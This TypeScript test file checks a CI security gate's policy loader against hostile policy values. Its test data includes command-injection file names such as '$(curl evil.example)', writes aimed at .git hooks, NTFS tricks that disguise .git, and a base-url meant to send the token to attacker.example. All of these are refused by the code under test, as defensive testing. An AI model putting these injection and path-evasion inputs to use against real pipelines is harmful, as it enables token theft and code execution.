// The policy file applied before the config is parsed (config/policy.ts, through config/load.ts): the
// policy's values checked as this repository would run them (an error names the policy's line), the
// facts the summary and the log show, and the exceptions file a remote policy names.
import { mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join, posix, win32 } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { INPUTS } from '../../src/config/input-table.ts';
import { ConfigError } from '../../src/config/inputs.ts';
import { loadConfig } from '../../src/config/load.ts';
import { checkoutOf, TOKEN_DESTINATIONS, writtenPathFault } from '../../src/config/policy.ts';
import { ciContext } from '../../src/host/detect.ts';
import { type FakeGitHub, startFakeGitHub } from '../support/github-api.ts';
import { temporaryFolder } from '../support/temporary.ts';

const HEAD = 'b'.repeat(40);
const NOW = new Date('2026-11-01T00:00:00Z');
const CONTEXT = { ci: 'github', repository: 'acme/payments-api', repositoryVariable: 'GITHUB_REPOSITORY', commit: 'c'.repeat(40) };
/** The context of a run on GitHub whose API is `api` (GITHUB_API_URL), as the host reads it. */
const on = (api: string) => ({ ...ciContext('github', { GITHUB_API_URL: api }), ...CONTEXT });

let dir = '';
let github: FakeGitHub;

beforeAll(async () => {
  dir = await mkdtemp(join(tmpdir(), 'findings-gate-policy-unit-'));
  github = await startFakeGitHub();
  github.repositories['acme/policies'] = {
    refs: { main: HEAD },
    files: {
      [HEAD]: {
        'gate.yml': 'fail-on-severity: critical\nexceptions-file: shared/exceptions.yml\nexceptions-max-days: 90\n',
        'no-exceptions.yml': 'exceptions-file: missing.yml\n',
        'writes.yml': 'sarif-file: /srv/reports/findings.sarif\n',
        'base.yml': 'base-url: https://semgrep.example.com\n',
        'shared/exceptions.yml': 'exceptions:\n  - rule: r\n    reason: why\n    expires: 2026-12-01\n',
      },
    },
  };
});

afterAll(async () => {
  await github.close();
  await rm(dir, { recursive: true, force: true });
});

/** A policy file of the checkout holding `text`, and its path. */
async function local(text: string): Promise<string> {
  const path = join(dir, `policy-${Math.random().toString(36).slice(2)}.yml`);
  await writeFile(path, text);
  return path;
}

/** loadConfig with the demo token and `inputs`, under GitHub's stand-in. */
function load(inputs: Record<string, string>) {
  return loadConfig({ 'api-token': 'sgp_token', ...inputs }, {}, NOW, on(github.url), Date.now());
}

/** The error loadConfig refuses `inputs` with: the input it names, and its message. */
async function refused(inputs: Record<string, string>): Promise<{ input: string; message: string }> {
  const error = await load(inputs).then(
    () => undefined,
    (thrown: unknown) => thrown,
  );
  expect(error).toBeInstanceOf(ConfigError);
  const { input, message } = error as ConfigError;
  return { input, message };
}

/** The message loadConfig refuses `inputs` with. */
const refusal = async (inputs: Record<string, string>): Promise<string> => (await refused(inputs)).message;

describe('loadConfig', () => {
  it('parses the inputs alone when there is no policy', async () => {
    const { config, notes } = await load({ mode: 'warn' });
    expect(config.mode).toBe('warn');
    expect(config.policy).toBeUndefined();
    expect(notes).toEqual([]);
  });

  it("runs with the policy's values where the repository is silent, and says what it applied", async () => {
    const path = await local('fail-on-severity: critical\nmode: warn\nexceptions-max-days: 90\n');
    const { config, notes } = await load({
      'config-file': path,
      'fail-on-severity': 'medium',
      mode: 'enforce',
      'exceptions-max-days': '30',
    });
    expect(config.failOnSeverity).toBe('medium');
    expect(config.mode).toBe('warn');
    expect(config.exceptionsMaxDays).toBe(30);
    expect(config.policy).toEqual({
      file: path,
      from: 'repository',
      commit: CONTEXT.commit,
      sets: ['fail-on-severity', 'mode', 'exceptions-max-days'],
      tightened: ['fail-on-severity', 'exceptions-max-days'],
      // mode: enforce is the default a CI passes for an input left out: it reads as unset, and the run says so (trial7).
      belowDefault: [{ name: 'mode', value: 'warn', default: 'enforce' }],
    });
    expect(notes).toEqual([
      {
        level: 'info',
        text: `policy: ${path} at commit ${CONTEXT.commit}: sets fail-on-severity, mode, exceptions-max-days; this repository makes stricter: fail-on-severity, exceptions-max-days`,
      },
      {
        level: 'warning',
        text: "the policy sets mode to 'warn', looser than its default 'enforce', which this run was given: a CI passes the default for an input a workflow leaves out, so 'enforce' reads as unset and the policy's 'warn' applies. To hold this repository to 'enforce', write it in capitals ('ENFORCE'), or choose a stricter value",
      },
    ]);
  });

  it('names a local policy without a commit where the CI names none', async () => {
    const path = await local("# the organisation's floor\nmode: enforce\n");
    const { config, notes } = await loadConfig(
      { 'api-token': 'sgp_token', 'config-file': path },
      {},
      NOW,
      { ...ciContext('jenkins', {}), repository: 'acme/x' },
      Date.now(),
    );
    // No commit at all, not one of undefined (the report file's policy facts).
    expect(config.policy).toStrictEqual({ file: path, from: 'repository', sets: ['mode'], tightened: [] });
    expect(notes).toEqual([{ level: 'info', text: `policy: ${path}: sets mode` }]);
  });

  it('refuses a policy that sets nothing (empty, comments only, {}): a read gone wrong never leaves the repository free (attack32 L1)', async () => {
    for (const text of ['', '# to come\n', '{}\n', '---\n']) {
      const path = await local(text);
      const { input, message } = await refused({ 'config-file': path, mode: 'warn' });
      expect(input).toBe('config-file');
      expect(message).toContain('sets no input');
      expect(message).toContain('remove config-file to run without a policy');
    }
  });

  it("names the policy's line for a value of it the gate cannot take, alone or with the repository's inputs", async () => {
    const huge = await local('mode: warn\nfail-on-severity: huge\n');
    expect(await refusal({ 'config-file': huge })).toBe(
      `${huge}:2: fail-on-severity is 'huge': use one of critical, high, medium, low, none.`,
    );
    // Even where the repository's own value would replace it.
    expect(await refusal({ 'config-file': huge, 'fail-on-severity': 'low' })).toMatch(/:2: fail-on-severity is 'huge'/);
    const growth = await local('max-backlog-growth: 10%\n');
    expect(await refusal({ 'config-file': growth })).toBe(
      `${growth}:1: max-backlog-growth judges the backlog over the trend's period, and trend is empty: set trend (such as 12w), or leave max-backlog-growth empty.`,
    );
  });

  it('reads the exceptions file a local policy names from the checkout, as the repository would name it', async () => {
    const path = await local('exceptions-file: shared/exceptions.yml\n');
    const { config } = await load({ 'config-file': path });
    expect(config.exceptionsFile).toEqual({ path: 'shared/exceptions.yml', explicit: true });
  });

  it("leaves an error of the repository's own inputs as it is", async () => {
    const path = await local('mode: warn\n');
    expect(await refusal({ 'config-file': path, 'fail-on-severity': 'huge' })).toBe(
      "Input 'fail-on-severity' is 'huge': use one of critical, high, medium, low, none.",
    );
  });

  it('refuses a config-token that cannot be a token, without showing it', async () => {
    const path = await local('mode: warn\n');
    expect(await refused({ 'config-file': path, 'config-token': 'two words' })).toEqual({
      input: 'config-token',
      message:
        "Input 'config-token' contains whitespace, a control character or a non-ASCII character: use the token exactly as it was issued.",
    });
  });

  it("says a local file that cannot be read, with the reader's reason", async () => {
    expect((await refused({ 'config-file': join(dir, 'none.yml') })).input).toBe('config-file');
    expect(await refusal({ 'config-file': join(dir, 'none.yml') })).toMatch(
      /, and it cannot be read: it does not exist\. Fix the path \(relative to the repository's root\), or write owner\/repo\/path@ref for another repository's file\.$/,
    );
    expect(await refusal({ 'config-file': dir })).toMatch(
      /it is not a regular file\. Put the policy file itself at that path, as a regular file\.$/,
    );
  });

  it('reads a remote policy, warns of a branch and says the commit to pin, and fetches the exceptions file it names at that commit', async () => {
    const { config, notes } = await load({ 'config-file': 'acme/policies/gate.yml@main' });
    expect(config.policy).toEqual({
      file: 'acme/policies/gate.yml@main',
      from: 'github',
      commit: HEAD,
      // The stand-in's API is not api.github.com: what named it is kept, for the log and the summary (attack32 M1).
      api: github.url,
      apiFrom: 'GITHUB_API_URL',
      sets: ['fail-on-severity', 'exceptions-file', 'exceptions-max-days'],
      tightened: [],
    });
    expect(config.exceptionsFile).toEqual({
      path: `acme/policies/shared/exceptions.yml@${HEAD}`,
      explicit: true,
      text: 'exceptions:\n  - rule: r\n    reason: why\n    expires: 2026-12-01\n',
    });
    expect(config.exceptionsMaxDays).toBe(90);
    expect(notes[1]).toEqual({
      level: 'warning',
      text: `config-file reads the policy at main, a ref that is not a commit sha: the policy can change under the gate from one run to the next (this run read commit ${HEAD}). Pin it by commit: acme/policies/gate.yml@${HEAD}`,
    });
    const pinned = await load({ 'config-file': `acme/policies/gate.yml@${HEAD}` });
    expect(pinned.notes.map((note) => note.level)).toEqual(['info']);
  });

  it('says an exceptions file the remote policy names and its repository does not hold, with the policy line', async () => {
    expect((await refused({ 'config-file': `acme/policies/no-exceptions.yml@${HEAD}` })).input).toBe('exceptions-file');
    expect(await refusal({ 'config-file': `acme/policies/no-exceptions.yml@${HEAD}` })).toBe(
      `acme/policies/no-exceptions.yml@${HEAD}:1: exceptions-file 'missing.yml' cannot be read from acme/policies at ${HEAD}: GitHub answered 404: no file missing.yml in acme/policies at ${HEAD} (config-token is empty, and a private repository answers 404 without one). Fix the repository, the path or the ref, or give config-token a token that can read acme/policies.`,
    );
  });

  it("reads a remote policy within the run's deadline, from this repository's timeout-seconds", async () => {
    const started = Date.now() - 10_000;
    const run = loadConfig(
      { 'api-token': 'sgp_token', 'config-file': 'acme/policies/gate.yml@main', 'timeout-seconds': '5' },
      {},
      NOW,
      on(github.url),
      started,
    );
    await expect(run).rejects.toThrow(`did not answer before the run's deadline`);
  });

  it('refuses a timeout-seconds the gate cannot take before it reads a remote policy', async () => {
    const before = github.requests.length;
    expect(await refusal({ 'config-file': 'acme/policies/gate.yml@main', 'timeout-seconds': '0' })).toMatch(
      /^Input 'timeout-seconds' is '0'/,
    );
    expect(github.requests.length).toBe(before);
  });
});

describe('loadConfig, a file the policy of the checkout names to write (attack8 I2)', () => {
  const OUTSIDE =
    "a policy file of this checkout names a file to write only below the working directory (its path resolved against it), since the pull request can change it. Set the path in the pipeline's own settings (an input or a flag), or in a policy of another repository.";

  it('refuses an absolute path or one that climbs out of the working directory, naming its line', async () => {
    const absolute = await local('mode: warn\nsarif-file: /etc/findings.sarif\n');
    expect(await refusal({ 'config-file': absolute })).toBe(`${absolute}:2: sarif-file is '/etc/findings.sarif': ${OUTSIDE}`);
    const up = await local('dependency-inventory: ../inventory.json\n');
    expect(await refusal({ 'config-file': up })).toBe(`${up}:1: dependency-inventory is '../inventory.json': ${OUTSIDE}`);
    const parent = await local('sarif-file: ..\n');
    expect(await refusal({ 'config-file': parent })).toBe(`${parent}:1: sarif-file is '..': ${OUTSIDE}`);
    const around = await local('sarif-file: reports/../../findings.sarif\n');
    expect(await refusal({ 'config-file': around })).toBe(`${around}:1: sarif-file is 'reports/../../findings.sarif': ${OUTSIDE}`);
  });

  it('refuses a file in a .git folder, in any case, naming its line (attack9 J5)', async () => {
    const GIT =
      "a policy file of this checkout may not name a file in a .git folder (the checkout's git config and hooks), since the pull request can change it. Set the path in the pipeline's own settings (an input or a flag), or in a policy of another repository.";
    const config = await local('sarif-file: .git/config\n');
    expect(await refused({ 'config-file': config })).toEqual({
      input: 'sarif-file',
      message: `${config}:1: sarif-file is '.git/config': ${GIT}`,
    });
    const hook = await local('mode: warn\ndependency-inventory: reports/../.GIT/hooks/pre-commit.json\n');
    expect(await refusal({ 'config-file': hook })).toBe(
      `${hook}:2: dependency-inventory is 'reports/../.GIT/hooks/pre-commit.json': ${GIT}`,
    );
    const submodule = await local('sarif-file: vendor/lib/.git\n');
    expect(await refusal({ 'config-file': submodule })).toBe(`${submodule}:1: sarif-file is 'vendor/lib/.git': ${GIT}`);
  });

  it('refuses a path with a character a later script would read as its own (attack40 D3)', async () => {
    // The path becomes an output (sarif-file, FINDINGS_GATE_OUT_SARIF_FILE) that a later step pastes into a script:
    // Azure's $(gate.FINDINGS_GATE_OUT_SARIF_FILE), GitHub's ${{ steps.gate.outputs.sarif-file }}.
    const SHELL =
      "a policy file of this checkout names a file to write only with letters, digits and . _ - + @ , = ~ / \\ in its path, not first a - (its path becomes an output that a later step may paste into a script or a command line), since the pull request can change it. Set the path in the pipeline's own settings (an input or a flag), or in a policy of another repository.";
    for (const path of ['o/$(id)/s.sarif', 'o/`id`.sarif', 's.sarif;id', 'a b.sarif', 's".sarif', 'o/%PATH%.sarif', 'x|y.sarif']) {
      const policy = await local(`sarif-file: ${JSON.stringify(path)}\n`);
      expect(await refusal({ 'config-file': policy }), path).toContain(`:1: sarif-file is `);
      expect(await refusal({ 'config-file': policy }), path).toContain(SHELL);
    }
    // An option of the command the path is pasted into (attack41 D4: taken before).
    for (const path of ['--output=x/s.sarif', '-o.sarif']) {
      const policy = await local(`sarif-file: ${JSON.stringify(path)}\n`);
      expect(await refusal({ 'config-file': policy }), path).toContain(SHELL);
    }
    const inventory = await local('dependency-inventory: "inv/$(curl evil.example).json"\n');
    expect(await refusal({ 'config-file': inventory })).toContain(SHELL);
    const fine = await local('sarif-file: reports/été_2026/findings-gate+1@x.sarif\n');
    expect((await load({ 'config-file': fine })).config.github.sarifFile).toBe('reports/été_2026/findings-gate+1@x.sarif');
  });

  it('takes a path below the working directory, a name that only starts with two dots included', async () => {
    const below = await local('sarif-file: ..reports/findings.sarif\ndependency-inventory: reports/../inventory.json\n');
    const { config } = await load({ 'config-file': below });
    expect(config.github.sarifFile).toBe('..reports/findings.sarif');
    expect(config.dependencyInventory).toEqual({ path: 'reports/../inventory.json', format: 'json' });
  });

  it("takes the workflow's own path over the policy's, unchecked, and any path from another repository's policy", async () => {
    const absolute = await local('sarif-file: /etc/findings.sarif\n');
    const own = await load({ 'config-file': absolute, 'sarif-file': '/tmp/own.sarif' });
    expect(own.config.github.sarifFile).toBe('/tmp/own.sarif');
    const remote = await load({ 'config-file': `acme/policies/writes.yml@${HEAD}` });
    expect(remote.config.github.sarifFile).toBe('/srv/reports/findings.sarif');
  });

  it('bounds a policy of one checkout among others by its own checkout, and names it (attack26 W1)', async () => {
    // The workspace of actions/checkout with path: pr/ (the pull request's) and tools/ (trusted).
    const workspace = await temporaryFolder('findings-gate-policy-workspace-');
    await mkdir(join(workspace, 'pr', '.git'), { recursive: true });
    await mkdir(join(workspace, 'tools', '.git'), { recursive: true });
    await writeFile(join(workspace, 'pr', 'over.yml'), 'sarif-file: tools/renovate.json\n');
    await writeFile(join(workspace, 'pr', 'own.yml'), 'sarif-file: pr/reports/findings.sarif\n');
    const cwd = process.cwd();
    process.chdir(workspace);
    try {
      expect(await refusal({ 'config-file': 'pr/over.yml' })).toBe(
        "pr/over.yml:1: sarif-file is 'tools/renovate.json': a policy file of this checkout names a file to write only below the checkout that holds it, 'pr' (its path resolved against the working directory), since the pull request can change it. Set the path in the pipeline's own settings (an input or a flag), or in a policy of another repository.",
      );
      expect((await load({ 'config-file': 'pr/own.yml' })).config.github.sarifFile).toBe('pr/reports/findings.sarif');
    } finally {
      process.chdir(cwd);
    }
  });
});

describe('checkoutOf: the checkout that holds a policy file, below the working directory (attack26 W1)', () => {
  let cwd = '';
  beforeAll(async () => {
    cwd = await temporaryFolder('findings-gate-checkout-');
    for (const folder of ['pr/.git', 'pr/config', 'pr/vendor/lib/.git', 'sub/deep/er', 'plain/a', 'beside/.git'])
      await mkdir(join(cwd, folder), { recursive: true });
    // A submodule's or a worktree's .git is a file naming the git folder.
    await writeFile(join(cwd, 'sub', '.git'), 'gitdir: ../.git/modules/sub\n');
  });

  it('is the nearest folder up from the file that holds a .git folder or file', () => {
    expect(checkoutOf(join(cwd, 'pr', 'config', 'gate.yml'), cwd)).toBe(join(cwd, 'pr'));
    expect(checkoutOf('pr/gate.yml', cwd)).toBe(join(cwd, 'pr'));
    expect(checkoutOf('pr/vendor/lib/gate.yml', cwd)).toBe(join(cwd, 'pr', 'vendor', 'lib'));
    expect(checkoutOf('sub/deep/er/gate.yml', cwd)).toBe(join(cwd, 'sub'));
  });

  it('is the working directory where no folder on the way holds a .git, or the file is not below it', () => {
    expect(checkoutOf('plain/a/gate.yml', cwd)).toBe(cwd);
    expect(checkoutOf('gate.yml', cwd)).toBe(cwd);
    // Outside, even beside a checkout: the bound stays the working directory.
    expect(checkoutOf(join(cwd, 'beside', 'gate.yml'), join(cwd, 'plain'))).toBe(join(cwd, 'plain'));
    expect(checkoutOf('../beside/gate.yml', join(cwd, 'plain'))).toBe(join(cwd, 'plain'));
  });
});

describe("writtenPathFault: a file to write, resolved against the working directory by the platform's rules", () => {
  it.each([
    ['/a/repo', 'findings.sarif', undefined],
    ['/a/repo', '..reports/findings.sarif', undefined],
    ['/a/repo', 'reports/../.github/findings.sarif', undefined],
    ['/a/repo', '.gitignore.sarif', undefined],
    ['/a/repo', '/a/repo/reports/findings.sarif', undefined],
    ['/a/repo', '/etc/findings.sarif', 'outside'],
    ['/a/repo', '../x.sarif', 'outside'],
    ['/a/repo', '.', 'outside'],
    ['/a/repo', 'reports/../../repo-other/x.sarif', 'outside'],
    ['/a/repo', '.git/config', 'git'],
    ['/a/repo', './.Git/HEAD', 'git'],
    ['/a/repo', 'sub/.git/modules/x', 'git'],
  ] as const)('posix: from %s, %s is %s', (cwd, path, fault) => {
    expect(writtenPathFault(path, cwd, posix)).toBe(fault);
  });

  it.each([
    ['reports\\findings.sarif', undefined],
    ['..reports\\findings.sarif', undefined],
    // A name that only holds a short name's shape is not .git's short name.
    ['xgit~1\\config', undefined],
    ['git~1x\\config', undefined],
    ['D:reports\\findings.sarif', undefined],
    // A drive-relative path resolves against the drive's current folder (attack9 J4).
    ['D:..\\..\\x.sarif', 'outside'],
    ['C:Users\\runneradmin\\.npmrc', 'outside'],
    ['C:\\x.sarif', 'outside'],
    ['\\x.sarif', 'outside'],
    ['\\\\server\\share\\x.sarif', 'outside'],
    ['reports/../../x.sarif', 'outside'],
    ['.GIT\\config', 'git'],
    ['.git.\\config', 'git'],
    ['.git \\config', 'git'],
    ['.git. .\\config', 'git'],
    ['GIT~1\\config', 'git'],
    ['GIT~12\\config', 'git'],
    ['.git::$INDEX_ALLOCATION\\config', 'git'],
    // NTFS upper-cases names to compare them, and its table folds U+0131 (dotless i) to I (attack10 K5).
    ['.g\u0131t\\config', 'git'],
    ['.G\u0131T.\\hooks\\pre-commit', 'git'],
    // The hashed short name NTFS gives .git after four GIT~n: GI, four hex digits, ~n (attack10 K5).
    ['GI7E2F~1\\config', 'git'],
    ['gi7e2f~12\\hooks\\x', 'git'],
    ['.g\u0131thub\\x.sarif', undefined],
    ['GIXE2F~1\\x.sarif', undefined],
    ['REPORT~1\\x.sarif', undefined],
  ] as const)('win32: from D:\\a\\repo\\repo, %s is %s', (path, fault) => {
    expect(writtenPathFault(path, 'D:\\a\\repo\\repo', win32)).toBe(fault);
  });
});

describe('loadConfig, where the token is sent by a policy of the checkout (attack9 J1)', () => {
  const message = (path: string, value: string) =>
    `${path}:2: base-url is '${value}': a policy file of this checkout may not set base-url, since the pull request can change it and the Semgrep token is sent there. Set base-url in the pipeline's own settings (an input or a flag), or in a policy of another repository.`;

  it("refuses a checkout policy that sets base-url, whatever the workflow's base-url, before any request", async () => {
    const path = await local('mode: warn\nbase-url: https://attacker.example\n');
    const before = github.requests.length;
    expect(await refused({ 'config-file': path })).toEqual({ input: 'base-url', message: message(path, 'https://attacker.example') });
    expect(await refusal({ 'config-file': path, 'base-url': 'https://attacker.example' })).toBe(message(path, 'https://attacker.example'));
    const same = await local('mode: warn\nbase-url: https://semgrep.dev\n');
    expect(await refusal({ 'config-file': same, 'base-url': 'https://semgrep.dev' })).toBe(message(same, 'https://semgrep.dev'));
    expect(github.requests.length).toBe(before);
  });

  it('takes base-url from a policy of another repository', async () => {
    const { config } = await load({ 'config-file': `acme/policies/base.yml@${HEAD}` });
    expect(config.baseUrl).toBe('https://semgrep.example.com');
  });

  it('holds every input a policy may set and that names a URL to the inputs a checkout policy may not set', () => {
    const urls = Object.entries(INPUTS)
      .filter(([name, spec]) => spec.tightens !== 'not-in-policy' && (/url/i.test(name) || /^https?:/.test(spec.default)))
      .map(([name]) => name);
    expect(urls).toEqual([...TOKEN_DESTINATIONS]);
  });
});
